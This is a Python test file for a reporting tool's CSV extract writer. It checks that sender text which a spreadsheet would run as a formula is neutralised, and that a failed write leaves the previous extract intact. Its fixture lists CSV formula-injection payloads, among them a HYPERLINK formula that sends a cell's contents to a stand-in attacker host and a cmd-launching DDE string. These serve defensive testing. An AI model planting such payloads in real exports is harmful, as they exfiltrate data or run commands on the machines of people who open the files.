"""The extracts: CSV safe to open in a spreadsheet, never half written (issue 22); the rows
read from the versioned lake, not copied again (issue 23).

Attacks: senders' text in the extracts started with `=HYPERLINK(...)` or `+cmd|...` and ran as a
formula when a report consumer opened the CSV; a report killed while writing left a 0-byte
extract in place of the previous one. The extract writer runs here on a real lake holding a
table shaped like the published dq_quarantine mart, whose raw_record column is exactly what a
sender wrote; each test commits its rows and reads them back through the product's reader.
"""

from __future__ import annotations

import csv
import json

import duckdb
import pytest

DAY = "2026-01-05"
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1", "plain text", "a=b", "", None]


def commit(settings, sql: str, params=()) -> None:
    """One version of the lake, committed as a publication commits."""
    from midoffice import lake

    con = duckdb.connect()
    lake.attach(con, settings)
    con.execute("USE lake")
    con.execute("BEGIN TRANSACTION")
    con.execute(sql, list(params))
    con.execute("CALL lake.set_commit_message(?, 'publish', extra_info => '{}')", [lake.AUTHOR])
    con.execute("COMMIT")
    con.close()


@pytest.fixture()
def published(tmp_path):
    from midoffice.config import settings_from

    settings = settings_from(tmp_path / "landing", tmp_path / "home")
    commit(settings, """CREATE TABLE dq_quarantine (business_date DATE, feed VARCHAR, file VARCHAR, line BIGINT,
                        rule VARCHAR, detail VARCHAR, raw_record VARCHAR, run_id VARCHAR, loaded_at TIMESTAMP)""")
    for i, text in enumerate(HOSTILE):
        commit(settings, "INSERT INTO dq_quarantine VALUES (?, 'trades', 'trades.csv', ?, 'venue:values', 'x', ?, 'r', "
               "TIMESTAMP '2026-01-05 06:00:00')", [DAY, -i if i == 3 else i + 2, text])
    return settings


def write(settings):
    from midoffice import lake
    from midoffice.dictionary import published_columns
    from midoffice.report.extracts import write_extracts

    con = lake.reader(settings, writable=(settings.reports,))
    try:
        published = {"dq_quarantine": published_columns(con)["dq_quarantine"]}
        return write_extracts(con, settings, DAY, published, lake.current_version(con))
    finally:
        con.close()


def test_sender_text_that_a_spreadsheet_would_run_is_neutralised_in_the_csv_only(published):
    settings = published
    index, _ = write(settings)
    folder = settings.reports / DAY / "extracts"
    with open(folder / "dq_quarantine.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    shown = {r["line"]: r["raw_record"] for r in rows}
    by_line = {(-i if i == 3 else i + 2): text for i, text in enumerate(HOSTILE)}
    for line, text in by_line.items():
        cell = shown[str(line)]
        if text and text[0] in "=+-@\t\r":
            assert cell == "'" + text, (text, cell)
        else:
            assert cell == (text or ""), (text, cell)
    assert shown["-3"] == "'@SUM(1+1)" and "-3" in shown  # a negative number in a numeric column stays a number
    # no Parquet copy: the extract names the version and the query that reads the rows as published
    assert not list(folder.glob("*.parquet"))
    (entry,) = index
    assert entry["version"] == len(HOSTILE) + 1 and entry["csv"] == "dq_quarantine.csv"
    from midoffice import lake

    con = lake.reader(settings, version=entry["version"])
    try:
        stored = con.execute(entry["lake_sql"]).fetchall()
        raw = [r[0] for r in con.execute("SELECT raw_record FROM dq_quarantine").fetchall()]
    finally:
        con.close()
    assert len(stored) == len(HOSTILE)
    assert sorted((r or "") for r in raw) == sorted((t or "") for t in HOSTILE)  # as published
    assert json.loads((folder / "index.json").read_text())["attach"] == f"midoffice versions --attach {entry['version']}"


def test_a_mart_too_large_for_a_spreadsheet_has_no_csv_and_is_read_from_the_lake(published, monkeypatch):
    from midoffice.report import extracts

    write(published)  # a CSV of the date: then the mart grows past what a spreadsheet opens
    monkeypatch.setattr(extracts, "SPREADSHEET_ROWS", len(HOSTILE) - 1)
    (entry,) = write(published)[0]
    folder = published.reports / DAY / "extracts"
    assert entry["csv"] is None and "more than a spreadsheet opens" in entry["csv_omitted"]
    assert not (folder / "dq_quarantine.csv").exists()


def test_a_report_that_fails_while_writing_leaves_the_previous_extract_whole(published):
    settings = published
    write(settings)
    folder = settings.reports / DAY / "extracts"
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    commit(settings, "INSERT INTO dq_quarantine VALUES (?, 'trades', 'trades.csv', 99, 'r', 'x', 'new', 'r', NULL)",
           [DAY])
    (folder / ".tmp-dq_quarantine.csv").mkdir()  # the new CSV cannot be written: the write fails half way
    with pytest.raises(duckdb.Error):
        write(settings)
    after = {p.name: p.read_bytes() for p in folder.iterdir() if not p.name.startswith(".tmp-")}
    assert after["dq_quarantine.csv"] == before["dq_quarantine.csv"] and after["dq_quarantine.csv"]
    (folder / ".tmp-dq_quarantine.csv").rmdir()
    write(settings)
    assert b"new" in (folder / "dq_quarantine.csv").read_bytes()
    assert not [p for p in folder.iterdir() if p.name.startswith(".tmp-")]
